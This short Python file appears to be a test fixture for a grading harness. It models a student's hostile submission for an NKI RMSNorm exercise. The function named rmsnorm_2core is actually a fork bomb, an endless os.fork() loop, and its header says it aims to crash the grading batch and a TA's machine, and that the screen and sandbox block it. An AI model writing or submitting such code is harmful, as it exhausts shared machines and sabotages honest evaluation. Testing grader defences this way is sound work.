# trudy, stage 5 Q2: a fork bomb in the grading run, hoping to take the batch (and the TA's machine) down.
# The screen refuses the file before it runs (`import os`); in the sandbox it would meet the time and process
# limits: 0, and nothing else is affected.
import os

import nki


@nki.jit
def rmsnorm_2core(a, g):
    while True:
        os.fork()
